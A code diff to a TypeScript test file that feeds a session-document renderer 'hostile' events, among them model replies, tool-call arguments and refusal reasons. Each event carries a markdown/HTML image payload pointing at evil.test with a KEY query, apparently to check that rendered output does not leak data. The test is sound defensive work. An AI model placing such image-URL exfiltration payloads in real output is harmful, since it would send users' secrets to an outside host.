@@ -2,15 +2,21 @@ import { marked } from 'marked';
 import { expect, test } from 'vitest';
 
 import type { Event, Recorded } from '../kernel/event.ts';
-import type { CallId } from '../kernel/ids.ts';
+import type { CallId, EffectId } from '../kernel/ids.ts';
 import { given, question, testTime } from '../testing/given.ts';
-import { chat, created } from '../testing/inputs.ts';
+import { call, chat, created, reply } from '../testing/inputs.ts';
 import { sessionDocument } from './session-document.ts';
 
 const image = '![x](https://evil.test/?q=KEY) <img src="https://evil.test/?q=KEY">';
 
 /** Every place of a session that holds words of somebody else. */
 const hostile: readonly Event[] = [
+  {
+    type: 'model-settled',
+    effect: 'ses_1.2' as EffectId,
+    outcome: reply(image, [call('c1', image, {}, { args: JSON.stringify({ command: image }) })]),
+  },
+  { type: 'call-refused', call: 'c1' as CallId, code: 'policy', reason: image },
   {
     type: 'agent-reported',
     report: { type: 'tool-call', call: 'a', title: `fixture claims: ${image}`, state: 'completed' },
@@ -31,7 +37,7 @@ const hostile: readonly Event[] = [
       grants: [],
     },
   },
-  { type: 'question-answered', question: question(8), answer: { type: 'text', text: image } },
+  { type: 'question-answered', question: question(10), answer: { type: 'text', text: image } },
   { type: 'turn-ended', ending: { type: 'failed', code: 'model-unavailable', message: image } },
 ];
 
